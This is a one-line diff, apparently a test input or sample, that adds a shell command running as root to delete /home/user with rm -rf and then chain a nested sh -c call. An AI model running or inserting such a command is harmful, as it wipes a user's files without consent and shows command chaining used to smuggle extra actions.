@@ -1,0 +1,1 @@
+sudo bash -c "eval 'rm -rf /home/user' && sh -c \"id\""
